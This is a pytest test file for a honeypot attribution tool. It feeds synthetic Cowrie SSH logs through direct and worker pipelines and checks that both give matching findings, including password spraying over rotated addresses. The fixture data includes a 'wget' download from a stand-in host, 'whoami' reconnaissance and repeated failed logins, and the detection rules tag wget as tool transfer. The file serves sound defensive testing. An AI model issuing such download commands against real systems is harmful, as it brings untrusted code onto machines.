"""The direct mode and the workers are the same code: the same findings, ends, identities and campaigns."""

from __future__ import annotations

import json
from functools import partial
from typing import TYPE_CHECKING, Any, NamedTuple

import pytest

from decnet.attribution.engine import IDLE_US
from decnet.db.clocks import stored_clocks
from decnet.db.engine import open_database
from decnet.models.finding import Clock
from decnet.models.network import Network
from decnet.models.secret import secret_digest
from decnet.ttp.tagger import CompositeTagger
from decnet.workers.clocks import SensorClocks, store_clocks
from decnet.workers.direct import DirectRun
from decnet.workers.direct_attribution import DirectAttribution
from decnet.workers.ingest import IntakeRun
from tests.contract.bus_backends import in_loop
from tests.contract.rollups import assert_rollups_equal_a_recount
from tests.databases import BACKENDS, own_database, rows
from tests.ttp.store.rule_texts import rule_text
from tests.workers.fleet import at_work
from tests.workers.rules_in_force import SESSION_RULE, live, loaded

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from decnet.db.engine import Database

LOOKS = rule_text("R0900", word="whoami")
FETCHES = rule_text("R0901", word="wget").replace("TA0007", "TA0011").replace("T1033", "T1105")
RULES = (LOOKS, FETCHES, SESSION_RULE)
OWN_CLIENT = "0f" * 16
FIRST, SECOND, ROTATED = "198.51.100.1", "198.51.100.2", [f"203.0.113.{n}" for n in range(1, 4)]


class Line(NamedTuple):
    """A Cowrie record: seconds after noon, session, source, event, and what it holds."""

    at: int
    session: int
    src: str
    event: str
    fields: dict[str, object]

    @property
    def text(self) -> str:
        hours, rest = divmod(self.at, 3_600)
        return json.dumps(
            {
                "eventid": f"cowrie.{self.event}",
                "timestamp": f"2026-11-18T{12 + hours:02}:{rest // 60:02}:{rest % 60:02}.000000Z",
                "session": f"{self.session:012x}",
                "src_ip": self.src,
                "protocol": "ssh",
                "sensor": "svr04",
                **self.fields,
            }
        )


def story() -> list[str]:
    """One fetches something, another looks around later; a sprayer changes its address; some never say good-bye."""
    lines: list[Line] = []
    for session, (at, src, command) in enumerate([(0, FIRST, "wget http://192.0.2.9/x"), (5_000, SECOND, "whoami")]):
        lines.append(Line(at, session, src, "session.connect", {"src_port": 4_000, "dst_port": 22}))
        lines += [Line(at + n, session, src, "command.input", {"input": command}) for n in range(1, 4)]
        lines.append(Line(at + 9, session, src, "session.closed", {"duration": 9.0}))
    for number, src in enumerate(ROTATED):
        session, at = 100 + number, 600 + 40 * number
        lines.append(Line(at, session, src, "session.connect", {"src_port": 4_000, "dst_port": 22}))
        lines.append(Line(at + 1, session, src, "client.kex", {"hassh": OWN_CLIENT}))
        attempts = [
            Line(at + 2 + n, session, src, "login.failed", {"username": f"user{number}", "password": "hunter2"})
            for n in range(9)
        ]
        lines += attempts
    return [line.text for line in sorted(lines)]


class ByPrefix:
    """A table of networks: each address of the sprayer is in one of its own."""

    def network_of(self, address: str) -> Network | None:
        return Network(64_500 + int(address.rpartition(".")[2]), "", "") if address in ROTATED else None


@pytest.fixture
def log(tmp_path: Path) -> Path:
    path = tmp_path / "cowrie.json"
    path.write_text("\n".join(story()) + "\n")
    return path


@pytest.fixture
def database(tmp_path: Path) -> Iterator[Database]:
    database = open_database(f"sqlite:///{tmp_path / 'direct.sqlite'}")
    yield database
    database.close()


def a_direct_run(database: Database, **own: Any) -> DirectRun:
    rules = live(loaded(*RULES))
    attribution = DirectAttribution(database, networks=ByPrefix())
    return DirectRun(
        database, CompositeTagger([rules]), rules, secret_digest(bytes(32)), attribution=attribution, **own
    )


def everything(database: Database) -> dict[str, list[tuple[Any, ...]]]:
    """What is made of events, without what only numbers rows.

    What was said of an identity before it was merged stays, and depends on when that was.
    """
    return {
        name: sorted(rows(database, sql), key=repr)
        for name, sql in {
            "findings": "SELECT source_id, figures FROM finding LEFT JOIN identity i ON i.id = identity_id "
            "WHERE i.merged_into_id IS NULL",
            "sessions": "SELECT uuid, started_at, ended_at, event_count FROM session",
            "identities": "SELECT a.uuid, i.uuid FROM attacker a JOIN identity i ON i.id = a.identity_id",
            "campaigns": "SELECT i.uuid, c.uuid FROM identity i JOIN campaign c ON c.id = i.campaign_id",
            "identity edges": "SELECT a.uuid, reason, kinds, weight FROM identity_edge "
            "JOIN attacker a ON a.id = attacker_id",
            "campaign edges": "SELECT i.uuid, reason, kinds, weight FROM campaign_edge "
            "JOIN identity i ON i.id = identity_id",
            "tags": "SELECT uuid, confidence, superseded FROM tag",
            "clocks": "SELECT observed_at FROM clock",
        }.items()
    }


def read_directly(database: Database, log: Path) -> dict[str, list[tuple[Any, ...]]]:
    run = a_direct_run(database)
    run.read(str(log))
    run.finish()
    return everything(database)


@pytest.mark.timeout(180)
@pytest.mark.parametrize("backend", BACKENDS)
def test_the_direct_mode_and_the_workers_find_the_same(
    backend: str, tmp_path: Path, log: Path, database: Database
) -> None:
    directly = read_directly(database, log)

    @in_loop
    async def serve(served: Database) -> None:
        async with at_work(served, *RULES, networks=ByPrefix()) as fleet:
            intake = IntakeRun(served, secret_digest(bytes(32)), SensorClocks(), wait=lambda _: True)
            intake.read(str(log))
            await fleet.settled()
            over = Clock("svr04", max(at for (at,) in rows(served, "SELECT heard_at FROM sensor_clock")) + IDLE_US)
            served.write(partial(store_clocks, clocks=[over], now=0))
            await fleet.settled()

    with own_database(backend, tmp_path) as served:
        serve(served)
        found = everything(served)
        assert_rollups_equal_a_recount(served)
    for name, part in directly.items():
        assert part, name
        assert found[name] == part, name
    assert_rollups_equal_a_recount(database)


def kinds(found: dict[str, list[tuple[Any, ...]]]) -> dict[str, str]:
    """Findings about identities, by kind."""
    return {name.split(":")[1]: figures for name, figures in found["findings"] if name.startswith("roll:")}


def test_spraying_over_rotated_addresses_is_one_finding_of_the_identity(database: Database, log: Path) -> None:
    found = read_directly(database, log)
    assert kinds(found) == {
        "spraying": '{"type":"IdentitySpraying","accounts":3}',
        "asn_hopping": '{"type":"IdentityNetworks","networks":3}',
    }
    anchors = "SELECT DISTINCT attacker_id FROM finding WHERE source_kind = 'identity_rollup'"
    assert rows(database, anchors) == [(None,)]


def test_a_second_run_adds_nothing(database: Database, log: Path) -> None:
    before = read_directly(database, log)
    run = a_direct_run(database)
    assert run.read(str(log), again=True).new_events == 0
    assert run.finish() == 0
    assert everything(database) == before


def test_a_run_that_was_killed_before_its_end_is_made_up_for(tmp_path: Path, database: Database, log: Path) -> None:
    (tmp_path / "whole").mkdir()
    a_direct_run(database).read(str(log))
    assert database.read(stored_clocks) == []
    again = a_direct_run(database)
    again.read(str(log))
    again.finish()
    found = everything(database)
    with own_database("sqlite", tmp_path / "whole") as undisturbed:
        assert found == read_directly(undisturbed, log)


def test_parts_of_a_log_give_the_same_as_the_whole(tmp_path: Path, database: Database, log: Path) -> None:
    whole = read_directly(database, log)
    lines = story()
    part = tmp_path / "growing.json"
    other = open_database(f"sqlite:///{tmp_path / 'parts.sqlite'}")
    for end in range(7, len(lines) + 7, 7):
        part.write_text("\n".join(lines[:end]) + "\n")
        a_direct_run(other).read(str(part))
    run = a_direct_run(other)
    run.read(str(part))
    run.finish()
    found = everything(other)
    other.close()
    for name in ("findings", "sessions", "identities", "campaigns", "campaign edges", "tags"):
        assert found[name] == whole[name], name


def test_silent_sessions_are_tagged_as_wholes(database: Database, tmp_path: Path) -> None:
    log = tmp_path / "silent.json"
    log.write_text("\n".join(Line(n, 1, FIRST, "command.input", {"input": "whoami"}).text for n in range(2)) + "\n")
    run = a_direct_run(database)
    run.read(str(log))
    of_sessions = "SELECT count(*) FROM tag WHERE source_kind = 'session'"
    assert rows(database, of_sessions) == [(0,)]
    assert run.finish() == 1
    assert rows(database, of_sessions) == [(1,)]
